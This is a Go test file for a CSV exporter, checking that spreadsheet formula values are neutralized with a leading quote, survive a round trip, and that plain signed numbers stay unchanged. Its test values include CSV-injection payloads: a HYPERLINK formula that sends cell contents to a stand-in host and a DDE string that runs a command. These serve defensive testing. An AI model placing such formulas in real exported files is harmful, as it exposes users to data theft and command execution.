package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"testing"

	"github.com/sluice-cdc/sluice/proto"
	"github.com/sluice-cdc/sluice/services/sluice/internal/export"
)

// TestCSVInjectionNeutralized: a tenant's value that a spreadsheet would
// run as a formula (=, +, -, @, tab, CR first) is written with a leading
// single quote, a value that starts with a quote gets one more, and
// UnsafeCSVCell gives every cell back exactly; other values are unchanged.
func TestCSVInjectionNeutralized(t *testing.T) {
	values := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "'=1", "'", "''x", "plain", "a=b", " =1",
	}
	rows := make([]json.RawMessage, len(values))
	for i, v := range values {
		b, _ := json.Marshal(map[string]any{"=col": v})
		rows[i] = b
	}
	var buf bytes.Buffer
	pages := func(context.Context, string) (export.Page, error) { return export.Page{Rows: rows}, nil }
	if _, err := export.Write(context.Background(), &buf, export.CSV, []export.Column{{Name: "=col", Kind: proto.Kind("text")}}, pages, nil); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[0][0] != "'=col" {
		t.Errorf("header %q, want '=col", recs[0][0])
	}
	for i, v := range values {
		got := recs[i+1][0]
		if got != "" && bytes.ContainsAny([]byte{got[0]}, "=+-@\t\r") {
			t.Errorf("%q written as %q: a spreadsheet runs it", v, got)
		}
		if export.UnsafeCSVCell(got) != v {
			t.Errorf("%q written as %q, read back as %q", v, got, export.UnsafeCSVCell(got))
		}
		if (v == "plain" || v == "a=b" || v == " =1") && got != v {
			t.Errorf("%q changed to %q", v, got)
		}
	}
}

// A plain number keeps its sign: a spreadsheet reads -5 as the number, not
// as a formula, and a CSV of a numeric column stays numbers. A sign before
// anything else is still neutralized.
func TestCSVNumbersKeepTheirSign(t *testing.T) {
	for _, v := range []string{"-5", "+5", "-0.25", "-1e+10", "-2E-3", "-12345678901234567890.5"} {
		if got := export.SafeCSVCell(v); got != v {
			t.Errorf("number %q written as %q", v, got)
		}
	}
	for _, v := range []string{"-2+3", "-", "-.5", "-5.", "-1e", "-1e+", "+cmd|' /C calc'!A0", "-5 ", "-0x10"} {
		if got := export.SafeCSVCell(v); got != "'"+v {
			t.Errorf("%q written as %q, want it quoted", v, got)
		}
	}
}
